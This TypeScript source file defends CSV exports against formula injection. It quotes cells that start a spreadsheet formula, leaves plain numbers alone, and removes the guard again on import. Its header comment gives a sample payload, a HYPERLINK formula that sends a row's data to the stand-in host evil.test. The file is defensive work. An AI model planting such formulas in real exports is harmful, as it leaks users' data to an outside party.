/**
 * CSV injection (OWASP): a spreadsheet that opens a CSV runs a cell that begins with =, +, -, @, tab
 * or carriage return as a formula, so `=HYPERLINK("http://evil.test/?d="&B2,"Open")` as a campaign
 * name would leak the row it sits in. Every CSV the product writes passes each cell through
 * csvSafeCell, and its writer quotes a cell that comes back guarded (AG Grid quotes every cell,
 * the server's papaparse writer is told to), as OWASP's rule asks.
 */

/** What OWASP's rule puts in front of a dangerous cell: the spreadsheet then reads it as text. */
export const CSV_FORMULA_GUARD = "'";

/**
 * A cell that would start a formula, also behind guards of its own: `'=x` is guarded too (as `''=x`),
 * so that the reader can take off exactly one guard and still give `'=x` back. Every written cell
 * is then unambiguous: one that starts with guards and then a dangerous character was guarded by us.
 */
const FORMULA_START = /^'*[=+\-@\t\r]/;
const GUARDED = /^'+[=+\-@\t\r]/;

/**
 * Plain decimal numbers (-33.4446, +56, 1e-7) stay as they are: a spreadsheet reads them as
 * numbers, never as formulas (OWASP leaves pure numbers alone), and a guard would turn a latitude
 * or an amount into text nobody can sum — and change the inventory template's example row.
 */
const PLAIN_NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;

/** The text a CSV holds for a value: a formula-like one behind a `'`, a number as it is. */
export function csvSafeCell(value: string | number | boolean | null | undefined): string {
  if (value === null || value === undefined) return '';
  const text = String(value);
  if (PLAIN_NUMBER.test(text) || !FORMULA_START.test(text)) return text;
  return `${CSV_FORMULA_GUARD}${text}`;
}

/**
 * The value of a cell csvSafeCell wrote (what the inventory import reads back from a CSV): the one
 * guard in front of a formula-like text comes off; every other cell is left untouched.
 */
export function csvCellValue(text: string): string {
  return text.startsWith(CSV_FORMULA_GUARD) && GUARDED.test(text) ? text.slice(1) : text;
}
